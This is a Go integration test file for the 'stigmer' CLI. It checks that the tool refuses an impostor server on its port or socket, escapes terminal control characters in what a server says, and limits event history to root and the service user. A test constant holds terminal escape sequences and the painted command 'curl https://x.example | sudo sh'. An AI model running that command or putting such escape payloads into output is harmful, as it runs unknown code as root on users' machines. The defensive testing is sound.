package main

// Who a stigmer command talks to, and what it prints of it: an impostor on
// the API's port or at the server's socket (another user took them while
// the service was stopped, or at boot before it) is refused and named;
// what a server says is printed with its control characters escaped; the
// history is served to root and the service's user alone.

import (
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"gotest.tools/v3/assert"
	is "gotest.tools/v3/assert/cmp"
	"gotest.tools/v3/icmd"
	"gotest.tools/v3/poll"

	"github.com/stigmer/stigmer/internal/api"
	"github.com/stigmer/stigmer/internal/history"
)

// hostile is what the stand-in server says: clear the screen, set the
// window's title, and paint a command to run.
const hostile = "\x1b[2J\x1b[H\x1b]0;stigmer\x07\x1b[32mall good: now run curl https://x.example | sudo sh\x1b[0m\u009b"

// serveImpostor serves, as a stand-in for the stigmer server, on spec
// ("tcp" or "unix:PATH"), writing its address to STIGMER_TEST_IMPOSTOR_ADDR.
func serveImpostor(spec string) {
	network, addr := "tcp", "127.0.0.1:0"
	if path, ok := strings.CutPrefix(spec, "unix:"); ok {
		network, addr = "unix", path
	}
	ln, err := net.Listen(network, addr)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	if network == "unix" {
		_ = os.Chmod(addr, 0o666)
	}
	if err := os.WriteFile(os.Getenv("STIGMER_TEST_IMPOSTOR_ADDR"), []byte(ln.Addr().String()), 0o644); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(2)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/api/v1/status", func(w http.ResponseWriter, _ *http.Request) {
		_ = json.NewEncoder(w).Encode(api.Status{Version: hostile, Ready: false, Reason: hostile, Listen: hostile,
			Components: []api.Component{{Name: "server" + hostile, State: hostile, LastExit: hostile, PID: 1}}})
	})
	mux.HandleFunc("/api/v1/events", func(w http.ResponseWriter, _ *http.Request) {
		_ = json.NewEncoder(w).Encode(api.EventList{Events: []history.Event{{Seq: 1, Time: time.Now(), Kind: "server-exit" + hostile,
			Component: "server", Reason: hostile, Logs: []string{hostile}}}})
	})
	_ = http.Serve(ln, mux)
	os.Exit(0)
}

// startImpostor runs the stand-in server on spec, as nobody when asNobody,
// and returns its address.
func startImpostor(t *testing.T, spec string, asNobody bool) string {
	t.Helper()
	exe, err := os.Executable()
	assert.NilError(t, err)
	dir := openDir(t)
	if asNobody {
		// nobody must reach this test binary: a copy in a directory it may read
		b, err := os.ReadFile(exe)
		assert.NilError(t, err)
		exe = filepath.Join(dir, "impostor")
		assert.NilError(t, os.WriteFile(exe, b, 0o755))
	}
	assert.NilError(t, os.Chmod(dir, 0o1777)) // for the address file
	addrFile := filepath.Join(dir, "addr")
	cmd := exec.Command(exe)
	cmd.Env = []string{"STIGMER_TEST_IMPOSTOR=" + spec, "STIGMER_TEST_IMPOSTOR_ADDR=" + addrFile}
	cmd.Dir = "/"
	if asNobody {
		cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	}
	cmd.Stderr = os.Stderr
	assert.NilError(t, cmd.Start())
	t.Cleanup(func() { _ = cmd.Process.Kill(); _ = cmd.Wait() })
	var addr string
	poll.WaitOn(t, func(poll.LogT) poll.Result {
		b, err := os.ReadFile(addrFile)
		if err != nil || len(b) == 0 {
			return poll.Continue("the stand-in has not written its address")
		}
		addr = string(b)
		return poll.Success()
	}, poll.WithTimeout(20*time.Second))
	return addr
}

// asRoot says why a test needs root, when it does not run as root.
func asRoot(t *testing.T) {
	t.Helper()
	assert.Assert(t, os.Geteuid() == 0, "this test runs a process as nobody: run the tests as root (CI does)")
}

// noRawControl asserts that out holds no byte a terminal acts on but
// newline and tab, and that the hostile text shows escaped or not at all.
func noRawControl(t *testing.T, what, out string) {
	t.Helper()
	for i, r := range out {
		if (r < 0x20 && r != '\n' && r != '\t') || (r >= 0x7f && r <= 0x9f) {
			t.Errorf("%s: a raw control character %U at byte %d: %q", what, r, i, out)
			return
		}
	}
}

// TestAnImpostorOnThePortIsRefusedAndNamed: another user listens on the
// API's port (the service is stopped, or not started yet): `stigmer server
// status` and `stigmer events`, as root, refuse it and say whose it is,
// and print nothing it says.
func TestAnImpostorOnThePortIsRefusedAndNamed(t *testing.T) {
	asRoot(t)
	addr := startImpostor(t, "tcp", true)
	env := testEnv(t, "STIGMER_LISTEN="+addr)
	res := icmd.RunCmd(bounded(stigmerBin, "server", "status", "--address", addr), icmd.WithEnv(env...))
	res.Assert(t, icmd.Expected{ExitCode: 1, Err: "the listening socket at " + addr + " belongs to uid 65534 (nobody), not to root"})
	assert.Check(t, !strings.Contains(res.Combined(), "all good"), "the impostor's words were printed:\n%s", res.Combined())
	noRawControl(t, "status", res.Combined())
}

// TestAnImpostorAtTheSocketIsRefusedAndNamed: another user serves the
// server's socket path (a runtime directory others may write): the
// commands refuse it, naming whose it is.
func TestAnImpostorAtTheSocketIsRefusedAndNamed(t *testing.T) {
	asRoot(t)
	run := runtimeDir(t)
	assert.NilError(t, os.Chmod(run, 0o1777))
	startImpostor(t, "unix:"+filepath.Join(run, "stigmer.sock"), true)
	env := testEnv(t, "STIGMER_RUNTIME_DIR="+run)
	for _, args := range [][]string{{"events"}, {"server", "status"}} {
		res := icmd.RunCmd(bounded(stigmerBin, args...), icmd.WithEnv(env...))
		res.Assert(t, icmd.Expected{ExitCode: 1, Err: "the socket " + filepath.Join(run, "stigmer.sock") + " belongs to uid 65534 (nobody), not to root"})
		assert.Check(t, !strings.Contains(res.Combined(), "all good"), "%v: the impostor's words were printed:\n%s", args, res.Combined())
	}
}

// TestWhatTheServerSaysIsPrintedSafely: even from a server the command
// trusts, the text it prints has its control characters escaped, as
// systemctl and journalctl do; the JSON stays JSON with the same values.
func TestWhatTheServerSaysIsPrintedSafely(t *testing.T) {
	run := runtimeDir(t)
	startImpostor(t, "unix:"+filepath.Join(run, "stigmer.sock"), false)
	env := testEnv(t, "STIGMER_RUNTIME_DIR="+run)
	for _, args := range [][]string{{"server", "status"}, {"events"}} {
		res := icmd.RunCmd(bounded(stigmerBin, args...), icmd.WithEnv(env...))
		noRawControl(t, strings.Join(args, " "), res.Combined())
		assert.Check(t, is.Contains(res.Stdout(), `\x1b[2J\x1b[H\x1b]0;stigmer\x07\x1b[32mall good`), "%v:\n%s", args, res.Combined())
	}
	for _, args := range [][]string{{"server", "status", "--json"}, {"events", "--json"}} {
		res := icmd.RunCmd(bounded(stigmerBin, args...), icmd.WithEnv(env...))
		res.Assert(t, icmd.Success)
		noRawControl(t, strings.Join(args, " "), res.Stdout())
		var v map[string]any
		assert.NilError(t, json.Unmarshal([]byte(res.Stdout()), &v), "%v: not JSON:\n%s", args, res.Stdout())
		assert.Check(t, strings.Contains(fmt.Sprint(v), hostile), "%v: the values changed", args)
	}
}

// TestOnlyRootAndTheServiceUserReadTheHistory: the server serves the
// history on its socket to root and its own user, as the kernel tells it
// who connects (SO_PEERCRED); another user is refused, told what to run.
func TestOnlyRootAndTheServiceUserReadTheHistory(t *testing.T) {
	asRoot(t)
	run := runtimeDir(t)
	assert.NilError(t, os.Chmod(run, 0o755)) // as RuntimeDirectoryMode= makes /run/stigmer
	env := testEnv(t, "STIGMER_RUNTIME_DIR="+run)
	s := startServer(t, env)
	s.waitReady(t)
	icmd.RunCmd(bounded(stigmerBin, "events"), icmd.WithEnv(env...)).Assert(t, icmd.Expected{Out: "server-start"})

	assert.NilError(t, os.Chmod(filepath.Dir(stigmerBin), 0o755))
	cmd := exec.Command(stigmerBin, "events")
	cmd.Env, cmd.Dir = env, "/"
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	out, err := cmd.CombinedOutput()
	var ee *exec.ExitError
	assert.Assert(t, errors.As(err, &ee) && ee.ExitCode() == 1, "exit: %v; %s", err, out)
	assert.Check(t, is.Contains(string(out), "uid 65534 may not read the history: only root, the server's user, may; run `sudo stigmer events`"))
	assert.Check(t, !strings.Contains(string(out), "server-start"), "%s", out)
}
